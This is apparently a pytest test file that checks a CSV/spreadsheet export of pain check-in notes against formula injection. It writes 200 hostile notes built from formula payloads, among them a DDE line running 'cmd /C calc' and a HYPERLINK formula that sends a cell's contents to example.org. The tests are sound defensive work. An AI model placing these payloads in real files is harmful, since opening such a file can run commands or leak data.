"""The tables in a real spreadsheet: two hundred hostile notes, and not one of them runs."""

import csv
import io
import re
from datetime import timedelta
from functools import cache
from itertools import product

import pytest

from domain.course import Course, evolve
from projections.spreadsheet import written
from projections.tables import tables
from tests.facts import chained, day, opened, reported
from tests.validators.office import Sheet, as_opened

BEGINNINGS = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\N{NO-BREAK SPACE}",
    '"',
    '""',
    "'",
    ",",
    ";",
    "a;",
    "a,",
    "a\t",
    "a\n",
    'a;"',
    'a",',
    'a"";"',
    "ä\N{ZERO WIDTH NO-BREAK SPACE};",
    "a\N{LINE SEPARATOR}",
    "a\x0b",
    "a\x85",
]
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A2)',
    "=cmd|'/C calc'!A0",
    "+1+2",
    "-2+3 better",
    "@SUM(1+1)",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "=1+1;=2+2,=3+3\t=4+4\n=5+5",
]
HOSTILE = ["".join(parts) for parts in product(BEGINNINGS, PAYLOADS)]


@cache
def pain_table(delimiter: str) -> str:
    """A check-in with each of the notes."""
    reports = [
        reported(3, at=day(1, 8) + timedelta(minutes=place), note=note)
        for place, note in enumerate(HOSTILE)
    ]
    facts = chained(opened(), *reports)
    course = Course()
    for fact in facts:
        course = evolve(course, fact)
    return tables(course, delimiter)["pain.csv"]


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Sheet]]:
    """Each file as it opens: at its own separator, at the other, and where any sign parts cells."""
    folder = tmp_path_factory.mktemp("office")
    unguarded = "".join(f"{n},{note}\r\n" for n, note in enumerate(PAYLOADS[:1] * 3))
    texts = {"comma": pain_table(","), "semicolon": pain_table(";"), "unguarded": unguarded}
    return {parted: as_opened(texts, parted, folder) for parted in (",", ";", "\t,;")}


def test_there_are_two_hundred_hostile_notes():
    assert len(set(HOSTILE)) == 200


@pytest.mark.parametrize("parted", [",", ";", "\t,;"])
@pytest.mark.parametrize("name", ["comma", "semicolon"])
def test_no_note_becomes_a_formula_however_the_file_is_opened(sheets, name: str, parted: str):
    assert sheets[parted][name].formulas == []
    assert len(sheets[parted][name].rows) > len(HOSTILE)


def test_without_a_guard_they_would(sheets):
    assert len(sheets[","]["unguarded"].formulas) == 3


@pytest.mark.parametrize(("name", "parted"), [("comma", ","), ("semicolon", ";")])
def test_every_note_is_there_as_it_was_written(sheets, name: str, parted: str):
    rows = sheets[parted][name].rows
    column = rows[0].index("note")

    shown = [row[column] for row in rows[1:] if len(row) > column]

    assert [plainly(each) for each in shown] == [plainly(each) for each in HOSTILE]


def plainly(note: str) -> str:
    """A note without what a guard adds, and with blanks and line ends as LibreOffice shows them."""
    return re.sub("[\r\n]+", "\n", re.sub("['\0\t\x0b]", "", note))


@pytest.mark.parametrize(("name", "parted"), [("comma", ","), ("semicolon", ";")])
def test_numbers_and_times_stand_where_they_stood(sheets, name: str, parted: str):
    text = pain_table(parted).removeprefix("\N{ZERO WIDTH NO-BREAK SPACE}")
    expected = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=parted))
    head, *rows = sheets[parted][name].rows

    for place, name_of in enumerate(head):
        if name_of in {"id", "zone", "reading", "leg", "back", "days_late"}:
            assert [row[place] for row in rows] == [row[name_of] for row in expected]


def test_a_number_is_written_without_quotes_and_nothing_as_nothing():
    assert written(["a", "b", "c"], [{"a": 3, "b": None, "c": False}], ";").endswith(
        "a;b;c\r\n3;;false\r\n"
    )
